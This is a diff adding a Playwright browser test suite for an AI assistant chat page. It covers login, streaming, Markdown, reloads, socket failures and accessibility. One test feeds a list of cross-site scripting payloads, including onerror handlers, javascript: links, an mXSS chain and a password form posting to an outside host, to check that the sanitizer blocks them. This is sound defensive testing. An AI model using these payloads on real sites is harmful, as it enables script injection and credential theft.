@@ -1,0 +1,511 @@
+// The page in a real Chromium, on a site that stands.
+import assert from "node:assert/strict";
+import { after, before, test } from "node:test";
+
+import { chromium } from "playwright-core";
+
+import { Wire, openGate, progressIn, script, site, unique } from "../js/support.mjs";
+
+const PAGE = "/ai-assistant";
+let browser;
+
+before(async () => {
+	browser = await chromium.launch({
+		executablePath: process.env.CHROMIUM ?? "/usr/bin/chromium",
+		// As root there is no sandbox, and nothing but the site is to be reached.
+		args: [
+			"--no-sandbox",
+			"--disable-gpu",
+			"--disable-quic",
+			"--no-first-run",
+			"--disable-background-networking",
+			"--disable-component-update",
+			"--disable-sync",
+		],
+	});
+});
+after(() => browser.close());
+
+/** A window of its own, logged in by its cookies alone. */
+async function context(test, options = {}) {
+	const made = await browser.newContext(options);
+	test.after(() => made.close());
+	return made;
+}
+
+async function logIn(context, url = site.url, usr = site.user, pwd = site.password) {
+	const response = await context.request.post(`${url}/api/method/login`, { form: { usr, pwd } });
+	assert.equal(response.status(), 200);
+}
+
+/** The page, ready to be asked; whatever it complains about in the console is a failure. */
+async function open(test, { wire, url = wire?.url ?? site.url, ...options } = {}) {
+	const own = await context(test, options);
+	await logIn(own, url);
+	const page = await own.newPage();
+	page.errors = [];
+	page.on("pageerror", (error) => page.errors.push(String(error)));
+	page.on("console", (line) => /Content Security Policy|Refused/.test(line.text()) && page.errors.push(line.text()));
+	if (wire && wire.url !== wire.socketUrl) await throughWire(page, wire);
+	await page.goto(url + PAGE);
+	await ready(page);
+	return page;
+}
+
+/** Where the realtime server has a port of its own, the page is told the wire's instead. */
+async function throughWire(page, wire) {
+	await page.route(`**${PAGE}`, async (route) => {
+		const response = await route.fetch();
+		const port = new URL(wire.socketUrl).port;
+		const body = (await response.text()).replace(/"socketio_port": \d+/, `"socketio_port": ${port}`);
+		assert.ok(body.includes(port));
+		await route.fulfill({ response, body });
+	});
+}
+
+async function ready(page) {
+	await page.waitForSelector("#prompt:visible");
+	await page.waitForSelector("#model option", { state: "attached" });
+}
+
+/** The page whose socket can be tampered with. */
+async function openOverWire(test) {
+	const wire = await Wire.over(test);
+	return { wire, page: await open(test, { wire }) };
+}
+
+async function ask(page, ...steps) {
+	await page.fill("#prompt", script(...steps));
+	await page.press("#prompt", "Enter");
+}
+
+const answer = (page) => page.locator(".turn").last();
+const says = (page, selector, text) =>
+	page.waitForFunction(
+		([selector, text]) => [...document.querySelectorAll(selector)].at(-1)?.textContent.includes(text),
+		[selector, text],
+	);
+const announced = (page) => page.textContent("#announcements");
+const finished = (page) => answer(page).locator("footer:visible").waitFor();
+
+test("a guest is sent to the login, and after it the page is there", async (t) => {
+	const page = await (await context(t)).newPage();
+	await page.goto(site.url + PAGE);
+	assert.match(page.url(), /\/login\?redirect-to=\/ai-assistant(#login)?$/);
+	if (await page.locator("#login").count()) {
+		await page.fill("[name=usr]", site.user);
+		await page.fill("[name=pwd]", "wrong");
+		await page.press("[name=pwd]", "Enter");
+		await says(page, "#wrong", "Invalid login credentials.");
+		await page.fill("[name=pwd]", site.password);
+		await page.press("[name=pwd]", "Enter");
+	} else {
+		await page.fill("#login_email", site.user);
+		await page.fill("#login_password", site.password);
+		await page.press("#login_password", "Enter");
+	}
+	await ready(page);
+	assert.equal(new URL(page.url()).pathname, PAGE);
+});
+
+test("a user without the role is told which one is needed", async (t) => {
+	const own = await context(t);
+	await logIn(own, site.url, process.env.THIRD_LOGIN, process.env.THIRD_PASSWORD);
+	const page = await own.newPage();
+	const response = await page.goto(site.url + PAGE);
+	assert.equal(response.status(), 403);
+	await says(page, "#refusal", "it needs the role AI Assistant User");
+	assert.equal(await page.locator("#prompt").count(), 0);
+});
+
+test("the indicator counts each second, reasoning comes before text, and at the first text it goes away", async (t) => {
+	const page = await open(t);
+	const [thought, wrote] = [unique("gate"), unique("gate")];
+	// What stands on the indicator, each time it changes.
+	await page.evaluate(() => {
+		window.counted = [];
+		const note = () => {
+			const label = document.querySelector(".thinking.live .label")?.textContent;
+			if (label && window.counted.at(-1) !== label) window.counted.push(label);
+		};
+		new MutationObserver(note).observe(document.getElementById("conversation"), {
+			subtree: true,
+			childList: true,
+			characterData: true,
+		});
+	});
+	await ask(page, { reasoning: "I wonder." }, { gate: thought }, { text: "So it is." }, { gate: wrote }, { text: " Indeed." });
+	await says(page, ".thinking .words", "I wonder.");
+	assert.equal(await announced(page), "Thinking.");
+	await page.waitForFunction(() => window.counted.length >= 3);
+	assert.deepEqual((await page.evaluate(() => window.counted)).slice(0, 3), [
+		"💡 Thinking 0s",
+		"💡 Thinking 1s",
+		"💡 Thinking 2s",
+	]);
+	assert.equal(await answer(page).locator(".block").count(), 0);
+	assert.equal(await page.locator("#send").isVisible(), false);
+
+	await openGate(thought);
+	await says(page, ".turn .block", "So it is.");
+	assert.equal(await page.locator(".thinking.live").count(), 0);
+	assert.equal(await page.locator(".thinking .words").isVisible(), false);
+	assert.equal(await announced(page), "The answer begins.");
+
+	await openGate(wrote);
+	await finished(page);
+	assert.match(await page.textContent(".thinking .label"), /^Thought for [\d.]+ s$/);
+	assert.equal(await page.evaluate(() => document.activeElement.id), "prompt");
+	await page.click(".thinking summary");
+	assert.equal(await page.locator(".thinking .words").isVisible(), true);
+	assert.match(await page.textContent(".figures"), /scripted of scripted · 18 tokens · first word [\d.]+ s · [\d.]+ s in all/);
+	assert.equal(await announced(page), "The answer is complete.");
+	assert.deepEqual(page.errors, []);
+});
+
+test("an answer is Markdown, whose code can be copied", async (t) => {
+	const page = await open(t, { permissions: ["clipboard-read", "clipboard-write"] });
+	const text = "# Title\n\nSome **bold** words.\n\n- one\n\n- two\n\n```js\nlet a = 1;\n```\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\nSee [this][1].\n\n[1]: https://example.com/\n";
+	await ask(page, ...[...text].map((character) => ({ text: character })));
+	await finished(page);
+	const found = await answer(page).locator(".answer > .words").evaluate((words) => ({
+		heading: words.querySelector("h1")?.textContent,
+		bold: words.querySelector("strong")?.textContent,
+		lists: words.querySelectorAll("ul").length,
+		items: words.querySelectorAll("li").length,
+		cells: words.querySelectorAll("td").length,
+		link: words.querySelector("a")?.href,
+		rel: words.querySelector("a")?.rel,
+	}));
+	assert.deepEqual(found, {
+		heading: "Title",
+		bold: "bold",
+		lists: 1,
+		items: 2,
+		cells: 2,
+		link: "https://example.com/",
+		rel: "noopener noreferrer nofollow",
+	});
+	await page.click(".code .copy");
+	await says(page, ".code .copy", "Copied");
+	assert.equal(await page.evaluate(() => navigator.clipboard.readText()), "let a = 1;\n");
+});
+
+test("Escape and Stop end an answer and keep what had come", async (t) => {
+	const page = await open(t);
+	for (const stop of [() => page.keyboard.press("Escape"), () => page.click("#stop")]) {
+		await ask(page, { reasoning: "Hm." }, { text: "Half of it" }, { hang: true });
+		await says(page, ".turn .block", "Half of it");
+		await stop();
+		await finished(page);
+		assert.equal(await answer(page).locator(".stopped").textContent(), "Stopped.");
+		assert.match(await answer(page).locator(".answer > .words").textContent(), /^Half of it/);
+		assert.equal(await page.locator("#stop").isVisible(), false);
+	}
+	await ask(page, { reasoning: "Thinking still" }, { hang: true });
+	await says(page, ".thinking .words", "Thinking still");
+	await page.keyboard.press("Escape");
+	await finished(page);
+	assert.equal(await page.locator(".thinking.live").count(), 0);
+	assert.equal(await announced(page), "Stopped.");
+});
+
+test("a provider's failure is said in words beside what had come, and the next question goes on", async (t) => {
+	const page = await open(t);
+	await ask(page, { reasoning: "Hm." }, { text: "Half of it" }, { error: "secret words" });
+	await finished(page);
+	const said = await answer(page).locator(".error").textContent();
+	assert.match(said, /scripted/);
+	assert.doesNotMatch(said, /secret|Traceback|HTTP/);
+	assert.equal(await answer(page).locator(".error").getAttribute("role"), "alert");
+	assert.match(await answer(page).textContent(), /Half of it/);
+	assert.equal(await page.locator(".thinking.live").count(), 0);
+
+	await ask(page, { status: 503 });
+	await finished(page);
+	await page.click(".error button");
+	await page.waitForFunction(() => document.querySelectorAll(".error").length === 3);
+	await finished(page);
+	await page.fill("#prompt", "hello");
+	await page.click("#send");
+	await says(page, ".turn .block", "Hello there.");
+});
+
+test("by keyboard: Shift+Enter is a new line, Enter sends, nothing is sent of nothing", async (t) => {
+	const page = await open(t);
+	await page.press("#prompt", "Enter");
+	assert.equal(await page.locator(".turn").count(), 0);
+	await page.keyboard.type("one");
+	await page.keyboard.press("Shift+Enter");
+	await page.keyboard.type("two");
+	await page.keyboard.press("Enter");
+	await finished(page);
+	assert.equal(await page.textContent(".question"), "one\ntwo");
+	// Everything can be reached, and shows that it is.
+	const reached = [];
+	for (let n = 0; n < 10; n++) {
+		await page.keyboard.press("Tab");
+		reached.push(await page.evaluate(() => document.activeElement.id || document.activeElement.className));
+	}
+	for (const id of ["mode", "model", "send", "new", "events-toggle", "logout"]) assert.ok(reached.includes(id), reached.join());
+});
+
+test("mode and model are chosen from what the site offers, and remembered", async (t) => {
+	const page = await open(t);
+	assert.deepEqual(await page.locator("#mode option").allTextContents(), ["chat", "agent"]);
+	await page.selectOption("#mode", "agent");
+	await page.selectOption("#model", { label: "claude-sonnet-4-5" });
+	await page.fill("#prompt", "hello");
+	await page.press("#prompt", "Enter");
+	await finished(page);
+	assert.match(await page.textContent(".figures"), /^claude-sonnet-4-5 of claude/);
+	await page.reload();
+	await ready(page);
+	assert.equal(await page.inputValue("#mode"), "agent");
+	assert.equal(await page.inputValue("#model"), '["claude","claude-sonnet-4-5"]');
+});
+
+test("a reload while it answers goes on, and the conversation is still there", async (t) => {
+	const page = await open(t);
+	await page.fill("#prompt", "hello");
+	await page.press("#prompt", "Enter");
+	await finished(page);
+	const gate = unique("gate");
+	await ask(page, { reasoning: "Hm." }, { text: "before" }, { gate }, { text: " and after" });
+	await says(page, ".turn .block", "before");
+	await page.reload();
+	await ready(page);
+	await says(page, ".turn .block", "before");
+	assert.equal(await page.locator(".turn").count(), 2);
+	assert.match(await page.locator(".turn").first().textContent(), /Hello there\./);
+	assert.equal(await page.locator("#stop").isVisible(), true);
+	await openGate(gate);
+	await finished(page);
+	assert.match(await answer(page).locator(".answer > .words").textContent(), /^before and after/);
+	await page.reload();
+	await ready(page);
+	assert.match(await answer(page).locator(".answer > .words").textContent(), /^before and after/);
+});
+
+test("a reload while it thinks counts on", async (t) => {
+	const page = await open(t);
+	const gate = unique("gate");
+	await ask(page, { reasoning: "Hm." }, { gate }, { text: "so" });
+	await says(page, ".thinking .label", "Thinking 1s");
+	await page.reload();
+	await says(page, ".thinking .label", "Thinking");
+	assert.doesNotMatch(await page.textContent(".thinking .label"), /Thinking 0s/);
+	await says(page, ".thinking .words", "Hm.");
+	await openGate(gate);
+	await finished(page);
+});
+
+test("two tabs are two conversations, neither sees the other's", async (t) => {
+	const first = await open(t);
+	const second = await first.context().newPage();
+	await second.goto(site.url + PAGE);
+	await ready(second);
+	const gates = [unique("gate"), unique("gate")];
+	await ask(first, { text: "in the first" }, { gate: gates[0] }, { text: " tab" });
+	await ask(second, { text: "in the second" }, { gate: gates[1] }, { text: " tab" });
+	await says(first, ".turn .block", "in the first");
+	await says(second, ".turn .block", "in the second");
+	for (const gate of gates) await openGate(gate);
+	for (const [page, words] of [[first, "in the first tab"], [second, "in the second tab"]]) {
+		await finished(page);
+		assert.equal(await page.locator(".turn").count(), 1);
+		assert.match(await page.locator(".answer > .words").textContent(), new RegExp(`^${words}`));
+	}
+});
+
+test("a socket dropped in the middle costs nothing, and its events are in the panel", async (t) => {
+	const { wire, page } = await openOverWire(t);
+	await page.click("#events-toggle");
+	await says(page, ".state", "Connected");
+	const [away, back] = [unique("gate"), unique("gate")];
+	await ask(page, { text: "one" }, { gate: away }, { text: " two" }, { gate: back }, { text: " three" });
+	await says(page, ".turn .block", "one");
+	wire.refuse = true;
+	wire.cut();
+	await says(page, ".state", "No socket");
+	await openGate(away);
+	await says(page, ".turn .block", "one two");
+	wire.refuse = false;
+	await says(page, ".state", "Connected");
+	await openGate(back);
+	await finished(page);
+	assert.match(await page.locator(".answer > .words").textContent(), /^one two three/);
+	const kinds = await page.locator(".events .kind").allTextContents();
+	assert.deepEqual(kinds.filter((kind) => ["reasoning", "text", "completion"].includes(kind)), [
+		"reasoning",
+		"text",
+		"text",
+		"text",
+		"completion",
+	]);
+	assert.equal(await page.locator(".track i.text").count(), 3);
+	await page.click(".events li:first-child summary");
+	assert.equal(JSON.parse(await page.textContent(".events li:first-child pre")).seq, 1);
+});
+
+test("where the realtime server brings nothing, as when its Redis is down, the page streams all the same", async (t) => {
+	const { wire, page } = await openOverWire(t);
+	wire.onFrame = (text, pass) => progressIn(text) || pass();
+	const gate = unique("gate");
+	await ask(page, { reasoning: "Hm." }, { text: "So it is" }, { repeat: 25, text: ".", every: 0.1 }, { gate }, { text: "!" });
+	await says(page, ".turn .block", "So it is");
+	await openGate(gate);
+	await finished(page);
+	assert.match(await page.locator(".answer > .words").textContent(), /^So it is\.{25}!/);
+});
+
+const redis = Number(process.env.REDIS_PID);
+
+test("with Redis frozen the page streams all the same", { skip: !redis && "only a bench has Redis" }, async (t) => {
+	const page = await open(t);
+	await page.click("#events-toggle");
+	await says(page, ".state", "Connected");
+	const [frozen, gate] = [unique("gate"), unique("gate")];
+	await ask(page, { reasoning: "Hm." }, { gate: frozen }, { repeat: 40, text: ".", every: 0.1 }, { gate }, { text: "!" });
+	await says(page, ".thinking .words", "Hm.");
+	process.kill(redis, "SIGSTOP");
+	try {
+		await openGate(frozen);
+		await says(page, ".turn .block", "....");
+		await openGate(gate);
+		await finished(page);
+	} finally {
+		process.kill(redis, "SIGCONT");
+	}
+	assert.match(await page.locator(".answer > .words").textContent(), /^\.{40}!/);
+});
+
+test("without any socket the page streams from the journal", async (t) => {
+	const wire = await Wire.over(t);
+	wire.refuse = true;
+	const page = await open(t, { wire });
+	const gate = unique("gate");
+	await ask(page, { reasoning: "Hm." }, { text: "one" }, { gate }, { text: " two" });
+	await says(page, ".turn .block", "one");
+	await openGate(gate);
+	await finished(page);
+	assert.match(await page.locator(".answer > .words").textContent(), /^one two/);
+});
+
+const HOSTILE = [
+	`<img src=x onerror="window.hacked='img'">`,
+	`<script>window.hacked='script'</script>`,
+	`<svg onload="window.hacked='svg'"><animate onbegin="window.hacked='animate'"></svg>`,
+	`<iframe srcdoc="<script>parent.hacked='iframe'</script>"></iframe>`,
+	`<a href="javascript:window.hacked='link'">html link</a>`,
+	`[markdown link](javascript:window.hacked='markdown')`,
+	`[tab in it](java\tscript:window.hacked='tab')`,
+	`<a href="data:text/html,<script>1</script>">data link</a>`,
+	`![picture](https://elsewhere.example/p.png?secret=1)`,
+	`<form action="https://elsewhere.example"><input name=password><button>Log in</button></form>`,
+	`<div style="position:fixed;inset:0" class="error" id="prompt">over everything</div>`,
+	`<math><mtext><table><mglyph><style><img src=x onerror="window.hacked='mxss'">`,
+	"```html\n<img src=x onerror=\"window.hacked='code'\">\n```",
+	"<details open ontoggle=\"window.hacked='details'\">x</details>",
+];
+
+test("a hostile answer runs no script, loads nothing, and looks like nothing but text", async (t) => {
+	// Without the page's Content-Security-Policy, which stands behind: what is tested here is the sanitizer.
+	const page = await open(t, { bypassCSP: true });
+	const outside = [];
+	page.on("request", (request) => request.url().includes("elsewhere") && outside.push(request.url()));
+	for (const steps of [HOSTILE.map((text) => ({ text: `${text}\n\n` })), [...HOSTILE.join("\n")].map((text) => ({ text }))]) {
+		await ask(page, { reasoning: HOSTILE.join("\n") }, ...steps);
+		await finished(page);
+		await answer(page).locator(".thinking summary").click();
+		const found = await answer(page).evaluate((turn) => {
+			const all = [...turn.querySelectorAll("*")];
+			return {
+				attributes: all.flatMap((each) => each.getAttributeNames().filter((name) => /^on|^style$|^srcdoc$/.test(name))),
+				elements: [...new Set(all.map((each) => each.localName))].filter((name) =>
+					/^(img|script|svg|iframe|form|input|style|math|object|embed|link|meta)$/.test(name),
+				),
+				addresses: [...turn.querySelectorAll("[href],[src]")].map((each) => each.href ?? each.src),
+				prompts: document.querySelectorAll("#prompt").length,
+			};
+		});
+		assert.deepEqual(found.attributes, []);
+		assert.deepEqual(found.elements, []);
+		assert.deepEqual(found.addresses.filter((address) => !address.startsWith("https://elsewhere.example/p.png")), []);
+		assert.equal(found.prompts, 1);
+		for (const link of await answer(page).locator(".words a").all()) await link.dispatchEvent("click");
+		assert.equal(await page.evaluate(() => window.hacked), undefined);
+	}
+	assert.deepEqual(outside, []);
+});
+
+test("the page's policy lets no script run but its own", async (t) => {
+	const page = await open(t);
+	await page.evaluate(() => {
+		const script = document.createElement("script");
+		script.textContent = "window.hacked = 'inline'";
+		document.body.append(script);
+		const image = document.createElement("div");
+		image.innerHTML = `<img src=x onerror="window.hacked='img'">`;
+		document.body.append(image);
+	});
+	await page.waitForFunction(() => [...document.images].every((image) => image.complete));
+	assert.equal(await page.evaluate(() => window.hacked), undefined);
+	assert.equal(page.errors.length > 0, true);
+});
+
+test("a megabyte without a space does not stop the page, nor the next question", async (t) => {
+	const page = await open(t, { viewport: { width: 360, height: 640 } });
+	await ask(page, { text: "x", times: 1_000_000 });
+	await finished(page);
+	assert.equal(await page.evaluate(() => document.querySelector(".answer > .words").textContent.length), 1_000_000);
+	assert.equal(await page.evaluate(() => document.getElementById("main").scrollWidth <= innerWidth), true);
+	await page.click("#new");
+	await page.fill("#prompt", "hello");
+	await page.press("#prompt", "Enter");
+	await says(page, ".turn .block", "Hello there.");
+});
+
+for (const colorScheme of ["light", "dark"]) {
+	test(`at 360 px in ${colorScheme} nothing is cut off and all can be read`, async (t) => {
+		const page = await open(t, { viewport: { width: 360, height: 640 }, colorScheme, reducedMotion: "reduce" });
+		await ask(page, { reasoning: "Hm." }, { text: `${"word ".repeat(80)}\n\n\`\`\`\n${"long ".repeat(40)}\n\`\`\`\n` }, { error: "x" });
+		await finished(page);
+		const found = await page.evaluate(() => {
+			const luminance = (color) => {
+				const [r, g, b] = color.match(/[\d.]+/g).map((part) => (part / 255 <= 0.04045 ? part / 255 / 12.92 : ((part / 255 + 0.055) / 1.055) ** 2.4));
+				return 0.2126 * r + 0.7152 * g + 0.0722 * b;
+			};
+			const paperOf = (element) => {
+				for (let each = element; each; each = each.parentElement) {
+					const color = getComputedStyle(each).backgroundColor;
+					if (!/, 0\)$/.test(color)) return color;
+				}
+			};
+			const faint = [];
+			for (const element of document.querySelectorAll("body *")) {
+				const own = [...element.childNodes].some((node) => node.nodeType === 3 && node.textContent.trim());
+				if (!own || !element.checkVisibility() || element.closest(".sr-only, option")) continue;
+				const [a, b] = [getComputedStyle(element).color, paperOf(element)].map(luminance).sort((x, y) => y - x);
+				if ((a + 0.05) / (b + 0.05) < 4.5) faint.push(`${element.localName}.${element.className}`);
+			}
+			const wide = [...document.querySelectorAll("button, select, textarea, .turn, .error, .code")]
+				.filter((each) => each.checkVisibility() && each.getBoundingClientRect().right > innerWidth)
+				.map((each) => each.id || each.className);
+			return { faint, wide, moving: document.getAnimations().length };
+		});
+		assert.deepEqual(found, { faint: [], wide: [], moving: 0 });
+		await page.click("#events-toggle");
+		assert.equal(await page.locator("#events").evaluate((panel) => panel.getBoundingClientRect().width), 360);
+		await page.keyboard.press("Escape");
+		assert.equal(await page.locator("#events").isVisible(), false);
+	});
+}
+
+test("after logging out the page asks for a login again", async (t) => {
+	const page = await open(t);
+	await page.click("#logout");
+	await page.waitForURL(/\/login/);
+	await page.goto(site.url + PAGE);
+	assert.match(page.url(), /\/login/);
+});
